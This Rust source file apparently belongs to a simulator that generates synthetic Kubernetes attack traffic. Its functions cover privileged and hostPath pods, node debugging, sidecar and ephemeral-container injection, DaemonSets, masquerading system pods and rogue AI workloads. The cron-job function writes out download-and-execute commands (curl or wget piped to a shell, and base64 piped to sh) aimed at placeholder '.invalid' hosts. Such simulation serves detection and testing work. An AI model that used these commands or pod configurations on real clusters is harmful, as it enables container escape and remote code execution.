//! Pods that should not be: made, changed, or dressed up as something else.

use crate::api::{Api, CRONJOBS, Call, DAEMONSETS, DEPLOYMENTS, NODES, NOTEBOOKS, PODS, RAY_CLUSTERS, TRAIN_JOBS};
use crate::attack::bodies::{Rig, ephemeral_patch, sidecar_patch};
use crate::attack::consequences::Owner;
use crate::attack::intruder::{Intruder, app_of};
use crate::bodies::manifest;
use crate::config::Style;
use crate::json::{list, object};
use crate::log::later;

const SLEEP: [&str; 3] = ["/bin/sh", "-c", "sleep infinity"];

fn words(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| (*w).to_owned()).collect()
}

/// A rig with a small common image; mimicry takes one of the cluster's own registry where it is known.
fn rig(intruder: &mut Intruder<'_>) -> Rig {
    let own = intruder.scene.cluster.is_some() && intruder.trial.style == Style::Mimicry;
    let image = if own {
        let home = intruder.home();
        format!("registry.example.com/{home}/{}:stable", intruder.name())
    } else {
        (*intruder.dice.pick(&[
            "docker.io/library/alpine:3.20",
            "docker.io/library/busybox:1.36",
            "docker.io/library/ubuntu:24.04",
        ]))
        .to_owned()
    };
    Rig { image, command: words(&SLEEP), ..Rig::default() }
}

fn start_pod(intruder: &mut Intruder<'_>, namespace: &str, name: &str, rig: &Rig) {
    let body = rig.pod(namespace, name, "main");
    intruder.create(PODS, namespace, name, Some(body));
    intruder.pod_starts(namespace, name, rig.node.as_deref());
    intruder.now = later(intruder.now, 4.0);
    intruder.call(&Call::get(PODS, namespace, name));
}

pub(super) fn host_path_pod(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let path =
        *intruder.dice.pick(&["/", "/etc", "/root", "/var/run/docker.sock", "/var/lib/kubelet", "/run/containerd"]);
    let rig = Rig { host_path: Some(path), ..rig(intruder) };
    let (namespace, name) = (intruder.home(), intruder.name());
    start_pod(intruder, &namespace, &name, &rig);
}

pub(super) fn privileged_pod(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let rig = Rig { privileged: true, ..rig(intruder) };
    let (namespace, name) = (intruder.home(), intruder.name());
    start_pod(intruder, &namespace, &name, &rig);
}

pub(super) fn node_debug_pod(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let node = intruder.node();
    intruder.call(&Call::get(NODES, "", &node));
    let name = format!("node-debugger-{node}-{}", intruder.dice.suffix(5));
    let rig = Rig { host: true, host_path: Some("/"), node: Some(node), restart: "Never", ..rig(intruder) };
    let body = rig.pod("default", &name, "debugger");
    let query = intruder.field_manager("kubectl-debug");
    intruder.decide(&Call::create(PODS, "default", &name).query(query).body(body));
    intruder.pod_starts("default", &name, rig.node.as_deref());
    intruder.now = later(intruder.now, 5.0);
    let length = intruder.dice.between(30.0, 300.0);
    let attach =
        Call::get(PODS, "default", &name).sub("attach").query("?container=debugger&stdin=true&stdout=true&tty=true");
    intruder.call(&attach.code(101).open_for(length));
}

pub(super) fn bare_pod(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let rig = Rig { image: intruder.image(), ..Rig::default() };
    let namespace = if intruder.dice.chance(0.3) { "kube-system".to_owned() } else { intruder.home() };
    let name = intruder.name();
    start_pod(intruder, &namespace, &name, &rig);
}

pub(super) fn sidecar_injection(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let (namespace, pod) = intruder.pod();
    let app = app_of(&pod);
    intruder.call(&intruder.list(DEPLOYMENTS, &namespace));
    intruder.step();
    let container = Rig { image: intruder.image(), command: words(&SLEEP), ..Rig::default() };
    let name = intruder.name();
    intruder.patch(DEPLOYMENTS, &namespace, &app, Some(sidecar_patch(container.container(&name))));
    intruder.owner_starts(Owner::Deployment, &namespace, &app, &container);
}

pub(super) fn ephemeral_container(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let (namespace, pod) = intruder.pod();
    intruder.call(&Call::get(PODS, &namespace, &pod));
    let name = format!("debugger-{}", intruder.dice.suffix(5));
    let container = Rig { image: intruder.image(), ..Rig::default() }.container(&name);
    let patch = Call::patch(PODS, &namespace, &pod).sub("ephemeralcontainers");
    intruder.decide(&patch.body(ephemeral_patch(container)));
    intruder.now = later(intruder.now, 3.0);
    let length = intruder.dice.between(30.0, 400.0);
    let query = format!("?container={name}&stdin=true&stdout=true&tty=true");
    intruder.decide(&Call::get(PODS, &namespace, &pod).sub("attach").query(query).code(101).open_for(length));
}

pub(super) fn daemon_set(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let rig = Rig { privileged: true, host_path: Some("/"), ..rig(intruder) };
    let namespace = if intruder.dice.chance(0.5) { "kube-system".to_owned() } else { intruder.home() };
    let name = intruder.name();
    let body = rig.controlled("DaemonSet", &namespace, &name);
    intruder.create(DAEMONSETS, &namespace, &name, Some(body));
    intruder.owner_starts(Owner::DaemonSet, &namespace, &name, &rig);
    intruder.step();
    intruder.call(&Call::get(DAEMONSETS, &namespace, &name));
}

pub(super) fn cron_job(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let host = format!("{}.invalid", intruder.dice.hex(8));
    let script = match intruder.dice.below(3) {
        0 => format!("curl -fsSL http://{host}/x.sh | sh"),
        1 => format!("wget -qO- http://{host}/init | bash"),
        _ => format!("echo {} | base64 -d | sh", intruder.dice.hex(40)),
    };
    let command = vec!["/bin/sh".to_owned(), "-c".to_owned(), script];
    let rig = Rig { command, restart: "OnFailure", ..rig(intruder) };
    let (namespace, name) = (intruder.home(), intruder.name());
    let schedule = *intruder.dice.pick(&["*/10 * * * *", "0 * * * *", "17 3 * * *", "*/30 * * * *"]);
    let body = rig.cron_job(&namespace, &name, schedule);
    intruder.create(CRONJOBS, &namespace, &name, Some(body));
    intruder.step();
    intruder.call(&Call::get(CRONJOBS, &namespace, &name));
}

pub(super) fn masquerade(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    intruder.call(&intruder.list(PODS, "kube-system"));
    intruder.step();
    let model =
        *intruder.dice.pick(&["kube-proxy", "coredns", "metrics-server", "kube-controller", "etcd", "kube-scheduler"]);
    let name = match intruder.dice.below(3) {
        0 => format!("{model}-{}", intruder.dice.suffix(5)),
        1 => format!("{model}s-{}", intruder.dice.suffix(5)),
        _ => format!("{model}-manager"),
    };
    let rig = rig(intruder);
    start_pod(intruder, "kube-system", &name, &rig);
}

pub(super) fn ai_training_job(intruder: &mut Intruder<'_>) {
    intruder.look_around();
    let (namespace, name, image) = (intruder.home(), intruder.name(), intruder.image());
    let pod = object([("containers", list([object([("name", "trainer".into()), ("image", image.into())])]))]);
    let template = object([("spec", pod)]);
    let (api, body): (Api, _) = match intruder.dice.below(3) {
        0 => {
            let spec = object([("template", template)]);
            (NOTEBOOKS, manifest("kubeflow.org/v1", "Notebook", &namespace, &name, [("spec", spec)]))
        }
        1 => {
            let head = object([("rayStartParams", object([])), ("template", template)]);
            let spec = object([("headGroupSpec", head)]);
            (RAY_CLUSTERS, manifest("ray.io/v1", "RayCluster", &namespace, &name, [("spec", spec)]))
        }
        _ => {
            let trainer = object([("numNodes", 4.into()), ("image", intruder.image().into())]);
            let spec = object([("runtimeRef", object([("name", "torch-distributed".into())])), ("trainer", trainer)]);
            (TRAIN_JOBS, manifest("trainer.kubeflow.org/v1alpha1", "TrainJob", &namespace, &name, [("spec", spec)]))
        }
    };
    intruder.create(api, &namespace, &name, Some(body));
    intruder.step();
    intruder.call(&Call::get(api, &namespace, &name));
}
